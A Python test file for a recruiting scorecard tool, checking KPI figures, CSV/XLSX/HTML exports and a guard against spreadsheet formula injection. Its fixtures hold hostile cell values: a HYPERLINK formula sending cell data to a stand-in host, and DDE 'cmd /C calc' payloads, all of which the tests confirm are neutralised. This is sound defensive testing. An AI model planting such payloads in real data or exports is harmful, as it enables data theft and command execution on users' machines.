"""The weekly scorecard on the hand-built data set (tests/conftest.py::kpi_export), its exports, and
the formula guard against hostile values planted in the source data."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from metrics import exports
from metrics.catalog import definitions_version, load_definitions
from metrics.compute import Filters
from metrics.scorecard import NOT_MEASURED, ScorecardError, build_scorecard, parse_week
from tests.conftest import build_warehouse, kpi_export

W47 = date(2026, 11, 16)


@pytest.fixture(scope="module")
def card(kpi_warehouse):
    return build_scorecard("2026-W47", path=kpi_warehouse)


def line(card, name):
    return next(line for line in card.lines if line.kpi.name == name)


def test_every_definition_is_on_the_scorecard(card):
    assert [line.kpi.name for line in card.lines] == list(load_definitions())


def test_golden_scorecard_for_w47(card):
    """Worked by hand from kpi_export (see tests/metrics/test_kpis.py for each cohort)."""
    first = line(card, "time_to_first_response")
    # W47: ed answered in 10 h; W46: median of ann 4 h, bo 24 h, cy 48 h = 24 h; W44, W45: nobody applied
    assert (first.value, first.previous, first.trend) == (10.0, 24.0, (None, None, 24.0, 10.0))
    assert first.change == pytest.approx(-14.0) and first.status == "on target"  # lower is better, target 24 h
    assert first.n == 2 and first.kpi.owner == "Recruiting operations"
    hire = line(card, "time_to_hire")
    # ann 11 d and gus 47.5 d, both hired in W47: median 29.25 d, under the 30 d target; nobody hired in W46
    assert (hire.value, hire.previous, hire.change, hire.status) == (pytest.approx(29.25), None, None, "on target")
    offers = line(card, "offer_acceptance_rate")
    # decided in W47: ann and gus accepted, hal declined -> 2/3, under the 0.8 target
    assert offers.value == pytest.approx(2 / 3) and offers.status == "off target"
    interview = line(card, "interview_to_offer_rate")
    # reached interviewing in W45: gus, hal, ivy, all reached offer -> 1.0; in W46: ann (offer), jo (no),
    # kim (skipped interviewing, reached offer 13 Nov) -> 2/3; in W47: nobody
    assert interview.trend == (None, pytest.approx(1.0), pytest.approx(2 / 3), None)
    assert interview.value is None and interview.status == "no data" and interview.n == 0
    assert [w.isoformat() for w in card.weeks] == ["2026-10-26", "2026-11-02", "2026-11-09", "2026-11-16"]


def test_stamp_and_health_footnote(card, kpi_warehouse):
    assert card.definitions_version == definitions_version()
    assert card.build_id and card.build_id in card.stamp and card.definitions_version in card.stamp
    measures = {m.name: m for m in card.health.measures}
    # 68 records read, none quarantined (see tests/pages/test_pages.py)
    assert measures["quarantined_rows"].value == 0.0 and "68 records" in measures["quarantined_rows"].note
    # no duplicate_record_rate KPI and no mismatch table in this warehouse: said, not invented
    if "duplicate_record_rate" not in load_definitions():
        assert measures["duplicate_record_rate"].value is None and NOT_MEASURED in measures["duplicate_record_rate"].note
    from pipelines import warehouse

    with warehouse.read_only(kpi_warehouse) as con:
        tables = set(warehouse.query(con, "SELECT table_name FROM information_schema.tables")["table_name"].to_list())
    if "mismatch" not in tables:
        assert measures["open_mismatches"].value is None and NOT_MEASURED in card.health.footnote
    over = [m for m in measures.values() if m.measured and m.value is not None and m.value > m.limit]
    if over:
        assert card.health.trust == "low"
    elif any(not m.measured for m in measures.values()):
        assert card.health.trust == "limited"


@pytest.mark.parametrize("week", ["2026-47", "W47", "2026-W54", ""])
def test_a_bad_week_is_refused(week):
    with pytest.raises(ScorecardError, match="ISO week"):
        parse_week(week)


def test_a_week_without_data_is_refused(kpi_warehouse):
    with pytest.raises(ScorecardError, match="no data for 2025-W10"):
        build_scorecard("2025-W10", path=kpi_warehouse)
    with pytest.raises(ScorecardError, match="after the data's as-of"):
        build_scorecard("2026-W50", path=kpi_warehouse)


def test_csv_export(card):
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(card).decode())))
    kpis = {r["kpi"]: r for r in rows if r["section"] == "kpi"}
    assert set(kpis) == set(load_definitions())
    first = kpis["time_to_first_response"]
    assert (first["value"], first["previous_week"], first["change"], first["status"]) == ("10.0", "24.0", "-14.0", "on target")
    assert first["trend 2026-W46"] == "24.0" and first["trend 2026-W44"] == ""
    assert {r["definitions_version"] for r in rows} == {card.definitions_version}
    assert {r["build_id"] for r in rows} == {card.build_id}
    health = {r["kpi"]: r for r in rows if r["section"] == "data_health"}
    # the hand-built data has two open mismatches among 11 applications (the mismatch rules find them)
    assert health["open_mismatches"]["status"] == "over limit" and health["trust"]["status"] == "low"


def test_xlsx_export_has_a_sheet_per_section_and_frozen_headers(card):
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(card)))
    assert book.sheetnames == ["KPIs", "Trend", "Health", "Definitions"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet["A1"].font.b, sheet.title
    kpis = book["KPIs"]
    header = [c.value for c in kpis[1]]
    rows = {r[header.index("kpi")]: dict(zip(header, r)) for r in kpis.iter_rows(min_row=2, values_only=True)
            if r[header.index("kpi")] in load_definitions()}
    assert rows["time_to_first_response"]["value"] == 10.0
    assert rows["offer_acceptance_rate"]["value"] == pytest.approx(2 / 3)
    ratio_cell = kpis.cell(row=2 + list(rows).index("offer_acceptance_rate"), column=header.index("value") + 1)
    assert ratio_cell.number_format == "0.0%"
    stamp = {r[0]: r[1] for r in kpis.iter_rows(min_row=len(rows) + 3, values_only=True) if r[0]}
    assert stamp["definitions version"] == card.definitions_version and stamp["warehouse build"] == card.build_id
    trend = [r for r in book["Trend"].iter_rows(values_only=True)]
    assert trend[0][3:] == ("2026-W44", "2026-W45", "2026-W46", "2026-W47")
    definitions = [r[0] for r in book["Definitions"].iter_rows(min_row=2, values_only=True) if r[0]]
    assert set(load_definitions()) <= set(definitions)


def test_html_export_is_self_contained_with_charts(card):
    page = exports.to_html(card).decode()
    assert not re.search(r"<script[^>]+src=", page, re.I), "no external scripts"
    assert not re.search(r"<link[^>]+href=", page, re.I), "no external stylesheets"
    assert "plotly.js" in page.lower() and page.count("Plotly.newPlot") == len(card.lines)
    assert "Weekly scorecard 2026-W47" in page and card.build_id in page and "not measured yet" in page


# --- formula injection ---------------------------------------------------------------------------

HOSTILE_DEPARTMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_RECRUITER = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CHANNEL = "+1+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_card(tmp_path_factory):
    """A job whose department, recruiter and source are formulas, loaded through the real pipeline."""
    gh = kpi_export()
    gh.job(3, "Formula Tester", department=HOSTILE_DEPARTMENT, recruiter=HOSTILE_RECRUITER,
           stages={31: "Application Review", 32: "Preliminary Phone Screen"})
    from tests.builders import utc
    gh.candidate(199, "Eve", "Hostile", "eve@mail.example")
    gh.application(1099, 199, 3, utc(2026, 11, 17, 9), (32, "Preliminary Phone Screen"), source=HOSTILE_CHANNEL,
                   recruiter=HOSTILE_RECRUITER)
    gh.move(1099, utc(2026, 11, 17, 9), 31)
    gh.move(1099, utc(2026, 11, 17, 15), 32)  # answered in 6 h by a stage change
    root = tmp_path_factory.mktemp("hostile")
    path = build_warehouse(gh.write(root / "export"), root / "wh")
    scope = Filters(W47, W47, departments=(HOSTILE_DEPARTMENT,), recruiters=(HOSTILE_RECRUITER,), channels=(HOSTILE_CHANNEL,))
    return build_scorecard("2026-W47", path=path, scope=scope)


def formula_like(text: str) -> bool:
    if not text.startswith(exports.FORMULA_STARTS):
        return False
    try:
        float(text)  # a negative number is a number, not a formula
        return False
    except ValueError:
        return True


def test_the_guard_rule():
    for value in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert exports.safe_cell(value) == "'" + value
    for value in ("Sales", "a=b", " =x", 3, -2.5, None):
        assert exports.safe_cell(value) == value


def test_hostile_values_reach_the_scorecard_and_are_neutralised_everywhere(hostile_card):
    assert line(hostile_card, "time_to_first_response").value == 6.0  # the scope really selected the planted job
    text_cells = []
    rows = list(csv.reader(io.StringIO(exports.to_csv(hostile_card).decode())))
    text_cells += [c for r in rows for c in r]
    assert "'" + HOSTILE_DEPARTMENT in text_cells and "'" + HOSTILE_CHANNEL in text_cells
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(hostile_card)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    text_cells.append(cell.value)
    assert "'" + HOSTILE_RECRUITER in text_cells
    page = exports.to_html(hostile_card).decode()
    import html as html_lib
    tds = [html_lib.unescape(t) for t in re.findall(r"<td>(.*?)</td>", page, re.S)]
    assert "'" + HOSTILE_DEPARTMENT in tds
    text_cells += tds
    bad = [c for c in text_cells if formula_like(c)]
    assert not bad, bad


def test_cli_writes_each_format_and_refuses_bad_weeks(kpi_warehouse, monkeypatch, tmp_path):
    from typer.testing import CliRunner

    from pipelines.cli import app

    runner = CliRunner()
    monkeypatch.setenv("STAGETRUTH_WAREHOUSE", str(kpi_warehouse))
    for fmt in exports.FORMATS:
        target = tmp_path / f"card.{fmt}"
        result = runner.invoke(app, ["scorecard", "--week", "2026-W47", "--format", fmt, "--out", str(target)])
        assert result.exit_code == 0, result.output
        assert target.read_bytes() == exports.export(build_scorecard("2026-W47", path=kpi_warehouse), fmt) or fmt == "xlsx"
    assert openpyxl.load_workbook(tmp_path / "card.xlsx").sheetnames[0] == "KPIs"
    printed = runner.invoke(app, ["scorecard", "--week", "2026-W47"])
    assert printed.exit_code == 0 and printed.stdout.startswith("section,week,kpi")
    for week, message in (("2026-47", "ISO week"), ("2025-W10", "no data for 2025-W10")):
        result = runner.invoke(app, ["scorecard", "--week", week, "--format", "csv", "--out", str(tmp_path / "x.csv")])
        assert result.exit_code == 2 and message in result.output and "Traceback" not in result.output
    assert not (tmp_path / "x.csv").exists()
    bad_format = runner.invoke(app, ["scorecard", "--week", "2026-W47", "--format", "pdf"])
    assert bad_format.exit_code == 2


def test_xlsx_export_is_stable_in_content(card, tmp_path):
    """Two exports of one scorecard read back to the same cells (xlsxwriter stamps creation time)."""
    read = lambda data: [[c.value for c in r] for s in openpyxl.load_workbook(io.BytesIO(data)).worksheets  # noqa: E731
                         for r in s.iter_rows()]
    assert read(exports.to_xlsx(card)) == read(exports.to_xlsx(card))
    Path(tmp_path / "card.xlsx").write_bytes(exports.to_xlsx(card))


# --- health measures, when the warehouse has them ------------------------------------------------

@pytest.fixture(scope="module")
def measured_warehouse(tmp_path_factory):
    """kpi_export plus a second record of ed (same email) applying in W47, and a `mismatch` table
    with two open and one resolved row, as the stage-mismatch work will publish."""
    from tests.builders import utc

    gh = kpi_export()
    gh.candidate(198, "Ed", "Again", "ED@mail.example")
    for record in gh.candidates:  # both of ed's records are created in W47, the duplicate rate's cohort
        if record["id"] in (105, 198):
            record["created_at"] = record["updated_at"] = "2026-11-18T08:00:00.000Z"
    gh.application(1098, 198, 1, utc(2026, 11, 18, 9), (11, "Application Review"))
    gh.move(1098, utc(2026, 11, 18, 9), 11)
    root = tmp_path_factory.mktemp("measured")
    built = build_warehouse(gh.write(root / "export"), root / "wh")
    return built


def test_measured_duplicates_and_mismatches_fill_the_footnote(measured_warehouse):
    """The footnote's figures are the warehouse's own: identity links and open mismatches of the week."""
    from pipelines import warehouse

    card = build_scorecard("2026-W47", path=measured_warehouse)
    measures = {m.name: m for m in card.health.measures}
    with warehouse.read_only(measured_warehouse) as con:
        records, persons = con.execute(
            "SELECT count(*), count(DISTINCT person_id) FROM identity_link "
            "WHERE created_at >= TIMESTAMPTZ '2026-11-16' AND created_at < TIMESTAMPTZ '2026-11-23'").fetchall()[0]
        open_count = con.execute("SELECT count(*) FROM mismatch WHERE status = 'open'").fetchall()[0][0]
        applications = con.execute("SELECT count(*) FROM application_fact").fetchall()[0][0]
    # ed applies twice in W47 under one email (other case): identity makes one person of the two records
    assert records > persons
    assert measures["duplicate_record_rate"].value == pytest.approx((records - persons) / records)
    assert open_count and measures["open_mismatches"].value == pytest.approx(open_count / applications)
    assert f"{open_count} open stage mismatch(es)" in card.health.footnote and NOT_MEASURED not in card.health.footnote
    assert card.health.trust == "low"  # both over their limits
    rows = {r["kpi"]: r for r in csv.DictReader(io.StringIO(exports.to_csv(card).decode())) if r["section"] == "data_health"}
    assert rows["duplicate_record_rate"]["status"] == "over limit" and rows["trust"]["status"] == "low"
